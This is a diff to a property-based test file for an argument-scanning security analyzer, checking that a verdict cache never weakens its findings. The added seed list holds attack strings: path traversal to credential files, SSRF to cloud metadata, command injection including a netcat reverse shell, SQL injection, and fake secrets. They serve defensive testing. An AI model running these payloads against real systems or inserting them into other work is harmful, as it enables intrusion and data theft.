@@ -13,6 +13,7 @@ from hypothesis import strategies as st
 from checkrein.config.policy import ArgKind
 from checkrein.policy.analyzers import ScanContext, scan_arguments
 from checkrein.policy.analyzers.scan import PREFILTERS
+from checkrein.policy.analyzers.verdicts import VerdictCache
 
 KINDS: list[ArgKind | None] = [None, "path", "url", "command", "query", "secret"]
 CTX = {"path_roots": ("/srv/data",), "allowed_hosts": ("api.example.com",)}
@@ -97,3 +98,54 @@ def test_plain_values_skip_every_untyped_analyzer(value: str) -> None:
     `shell`, which must look at a `;`)."""
     running = {name for name, may_find in PREFILTERS.items() if may_find(value, None)}
     assert running <= {"shell"}
+
+
+# --- the fast path with the verdict cache ---------------------------------------------------------
+
+# Shapes of every attack class (the `ATTACKS` above and the corpora's kinds of line, written here so
+# the tests never need ../shared/), seeds that Hypothesis wraps in random pieces and re-cases.
+EXTRA_SEEDS = [
+    "....//....//etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/proc/self/environ",
+    "file:///etc/shadow", "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "http://0x7f000001:8080/", "gopher://127.0.0.1:6379/_",
+    "$(id)", "`whoami`", "a|nc -e /bin/sh 10.0.0.1 4444", "%0aid", "${IFS}cat${IFS}/etc/passwd",
+    "admin'--", "1 UNION SELECT username, password FROM users", "1; DROP TABLE users", "1' AND SLEEP(5)#",
+    "aws_secret_access_key = Zq8Xw2Lm4Np6Rt0Vb3Yc5Hd7Jf9Kg1Sa/Tu8Wx2Ab", "Authorization: Bearer abcdefghijklmnopqrstuvwx123456",
+    "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7v\n-----END RSA PRIVATE KEY-----",
+]  # fmt: skip
+SEEDS = [v for v, _ in ATTACKS] + EXTRA_SEEDS
+_PIECE_RUN = st.lists(st.sampled_from(PIECES), max_size=3).map("".join)
+CORPUS_LIKE = st.builds(
+    lambda pre, seed, post, upper: (pre + (seed.upper() if upper else seed) + post),
+    _PIECE_RUN, st.sampled_from(SEEDS), _PIECE_RUN, st.booleans(),
+)  # fmt: skip
+VALUES = st.one_of(st.lists(st.sampled_from(PIECES), max_size=8).map("".join), CORPUS_LIKE, st.text(max_size=40))
+# One cache for every example, small enough to evict: hits come from earlier examples too, and two
+# contexts with different roots and hosts share it (their verdicts must never mix).
+SHARED = VerdictCache(max_entries=64)
+CONTEXTS = [CTX, {"path_roots": ("/etc",), "allowed_hosts": ("169.254.169.254",)}]
+
+
+@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(VALUES, st.sampled_from(KINDS), st.sampled_from(range(len(CONTEXTS))))
+def test_cached_fast_path_never_reports_less_than_the_full_scan(value: str, kind: ArgKind | None, which: int) -> None:
+    """Cold (first sight) and warm (a hit) both report at least the full scan's findings, and the
+    same findings as each other: the cache never changes a verdict."""
+    kinds: dict[str, ArgKind] = {"/v": kind, "/w/*": kind} if kind else {}
+    ctx = ScanContext(kinds=kinds, verdicts=SHARED, **CONTEXTS[which])  # type: ignore[arg-type]
+    full = {(f.analyzer, f.kind, f.path) for f in scan_arguments({"v": value}, ctx, full=True)}
+    cold = {(f.analyzer, f.kind, f.path) for f in scan_arguments({"v": value}, ctx)}
+    hits = SHARED.hits
+    warm = {(f.analyzer, f.kind, f.path.replace("/w/0", "/v")) for f in scan_arguments({"w": [value]}, ctx)}
+    assert SHARED.hits > hits, "the second sight is a cache hit"
+    assert full <= cold, (value, kind, full - cold)
+    assert warm == cold, (value, kind, warm ^ cold)
+
+
+@pytest.mark.parametrize(("value", "kind"), ATTACKS + [(v, None) for v in EXTRA_SEEDS])
+def test_every_seed_is_an_attack_and_the_cached_path_reports_it(value: str, kind: ArgKind | None) -> None:
+    """The seeds are real attacks (the property above is not vacuous), reported cold and warm."""
+    ctx = ScanContext(kinds={"/v": kind} if kind else {}, verdicts=VerdictCache(), **CTX)  # type: ignore[arg-type]
+    full = {(f.analyzer, f.kind) for f in scan_arguments({"v": value}, ctx, full=True)}
+    assert full, "fixture must be an attack the analyzers catch"
+    for _ in range(2):
+        assert full <= {(f.analyzer, f.kind) for f in scan_arguments({"v": value}, ctx)}
